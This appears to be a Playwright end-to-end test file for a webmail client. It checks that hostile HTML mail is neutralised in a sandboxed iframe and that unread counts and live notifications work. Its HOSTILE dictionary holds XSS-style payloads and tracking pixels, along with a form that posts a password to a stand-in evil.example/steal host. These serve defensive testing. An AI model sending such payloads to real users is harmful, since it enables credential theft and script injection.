"""Reading mail in Chromium (MAIL-1, MAIL-18): hostile HTML stays inert inside the sandboxed iframe,
and new mail updates the open inbox without a reload.

Mail comes in the way it does in production: through the live server's SMTP listener.
"""

import base64
import smtplib
import time
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.e2e

DOMAIN = "huanghe.gov.example"
PNG_1x1 = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")

HOSTILE = {
    "script and handlers": """<html><head><script>alert('head')</script></head><body onload="alert('onload')">
        <p>benign text one</p><script>alert(1)</script><img src="x" onerror="alert(2)">
        <a href="javascript:alert(3)">click me</a><div onmouseover="alert(4)">hover</div>
        <img src="https://tracker.example/pixel.gif?u=1"><img srcset="https://tracker.example/2x.gif 2x">
        <p style="background:url(https://tracker.example/bg.png)">styled</p></body></html>""",
    "svg and frames": """<p>benign text two</p><svg xmlns="http://www.w3.org/2000/svg"><script>alert(5)</script>
        <image href="https://tracker.example/svg.png"/></svg><iframe src="https://evil.example/"></iframe>
        <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
        <math><mi xlink:href="javascript:alert(6)">m</mi></math>""",
    "meta, base and form": """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
        <style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style></head>
        <body><p>benign text three</p><img src="relative.png"><a href="relative">relative link</a>
        <form action="https://evil.example/steal" method="post"><input name="password"><button>Send</button></form>
        </body></html>""",
}


def send(server, to: str, message: EmailMessage) -> None:
    with smtplib.SMTP("127.0.0.1", server.smtp_port, timeout=20) as smtp:
        smtp.send_message(message, from_addr="outsider@example.org", to_addrs=[to])


def html_mail(to: str, subject: str, html: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Outsider <outsider@example.org>"
    message["To"] = to
    message["Subject"] = subject
    message.set_content("plain alternative")
    message.add_alternative(html, subtype="html")
    return message


def watch(page) -> tuple[list, list]:
    """Dialogs (dismissed) and the URLs of every request the page makes."""
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    return dialogs, requests


def test_hostile_html_mail_stays_inert_in_the_sandboxed_iframe(new_page, live_server, demo_accounts, e2e):
    account = demo_accounts[e2e.ACCOUNT_OF["webmail_hostile"]]
    address = f"{account['username']}@{DOMAIN}"
    stamp = int(time.time())
    for kind, html in HOSTILE.items():
        send(live_server, address, html_mail(address, f"Hostile {kind} {stamp}", html))
    inline = html_mail(address, f"Inline image {stamp}", '<p>benign text four</p><img src="cid:dot@e2e" alt="dot" width="20" height="20">')
    inline.get_payload()[1].add_related(PNG_1x1, maintype="image", subtype="png", cid="<dot@e2e>")
    send(live_server, address, inline)

    page = new_page(live_server)
    dialogs, requests = watch(page)
    e2e.log_in(page, account)
    page.goto("/webmail")
    for n, kind in enumerate([*HOSTILE, "inline image"], start=1):
        subject = f"Hostile {kind} {stamp}" if kind in HOSTILE else f"Inline image {stamp}"
        with page.expect_navigation():
            page.locator("#message-list a", has_text=subject).click()
        frame = page.frame_locator("iframe.webmail-body")
        expect(frame.locator("body")).to_contain_text("benign text " + ("one", "two", "three", "four")[n - 1])
        page.wait_for_load_state("load")
        if kind == "script and handlers":
            expect(page.locator(".webmail-images")).to_be_visible()  # remote images held back, and said so
            frame.locator("a", has_text="click me").click()  # a javascript: link lost its href: nothing happens
        if kind == "meta, base and form":
            assert frame.locator("form, input").count() == 0
        if kind == "inline image":
            image = frame.locator("img[alt=dot]")
            expect(image).to_be_visible()
            # Really decoded (embedded as data:, since the sandboxed document's requests carry no cookie).
            assert image.evaluate("img => img.complete && img.naturalWidth") == 1
        page.go_back()
    page.wait_for_timeout(1500)  # time for a meta refresh or a late handler to fire
    assert dialogs == []
    outside = [url for url in requests if urlsplit(url).scheme in ("http", "https") and urlsplit(url).hostname != "127.0.0.1"]
    assert outside == []
    assert all("tracker.example" not in url and "evil.example" not in url for url in requests)


def test_new_mail_updates_the_badge_and_shows_a_toast_without_reload(new_page, live_server, demo_accounts, e2e):
    account = demo_accounts[e2e.ACCOUNT_OF["webmail_live"]]
    address = f"{account['username']}@{DOMAIN}"
    page = new_page(live_server)
    e2e.log_in(page, account)
    with page.expect_response(lambda response: response.url.endswith("/events")):
        page.goto("/webmail")
    page.wait_for_timeout(500)  # the subscription is made as the stream starts
    badge = page.locator("header [data-webmail-unread]")
    before = int(badge.text_content() or 0)
    page.evaluate("window.stillTheSamePage = true")
    assert page.evaluate("Notification.permission") == "default"  # never asked on page load
    expect(page.get_by_role("button", name="Enable desktop notifications")).to_be_visible()

    subject = f"Live mail {int(time.time())}"
    message = EmailMessage()
    message["From"] = "Citizen <citizen@example.org>"
    message["To"] = address
    message["Subject"] = subject
    message.set_content("A new message while the inbox is open.")
    send(live_server, address, message)

    expect(badge).to_have_text(str(before + 1), timeout=10_000)
    expect(badge).to_be_visible()
    toast = page.locator("#webmail-toast[role=status]")
    expect(toast).to_be_visible()
    expect(toast).to_contain_text(subject)
    assert page.evaluate("window.stillTheSamePage") is True  # no reload happened
    with page.expect_navigation():
        toast.locator("a").click()
    expect(page.locator("main h1")).to_have_text(subject)


def test_counts_follow_reading_and_deleting(new_page, live_server, demo_accounts, e2e):
    """The folder list, the list's caption, its pager and the menu badge, as read from the counts
    the database keeps (issue B), follow what the user does in the browser."""
    account = demo_accounts[e2e.ACCOUNT_OF["webmail_counts"]]
    page = new_page(live_server)
    e2e.log_in(page, account)
    page.goto("/webmail")
    address = page.locator(".webmail-address").text_content().split()[0]
    stamp = int(time.time())
    for n in range(3):
        message = EmailMessage()
        message["From"] = "Citizen <citizen@example.org>"
        message["To"] = address
        message["Subject"] = f"Count {n} {stamp}"
        message.set_content("Counted, not counted again.")
        send(live_server, address, message)

    def folder_count(label: str) -> str:
        item = page.locator(".webmail-folders li", has=page.get_by_role("link", name=label, exact=True))
        return item.locator(".count").text_content() if item.locator(".count").count() else "0"

    page.goto("/webmail")
    badge = page.locator("header [data-webmail-unread]")
    expect(badge).to_have_text("3")
    assert folder_count("Inbox") == "3"
    expect(page.locator("#message-list caption")).to_contain_text("3")

    with page.expect_navigation():
        page.locator("#message-list a", has_text=f"Count 0 {stamp}").click()
    expect(badge).to_have_text("2")  # read on opening
    page.goto("/webmail")
    assert folder_count("Inbox") == "2"

    page.get_by_role("checkbox", name=f"Count 1 {stamp}").check()
    with page.expect_navigation():
        page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator("#message-list caption")).to_contain_text("2")
    expect(badge).to_have_text("1")
    assert folder_count("Inbox") == "1" and folder_count("Trash") == "1"
    with page.expect_navigation():
        page.get_by_role("link", name="Trash", exact=True).click()
    expect(page.locator("#message-list caption")).to_contain_text("1")
    assert page.locator("#message-list tbody tr").count() == 1
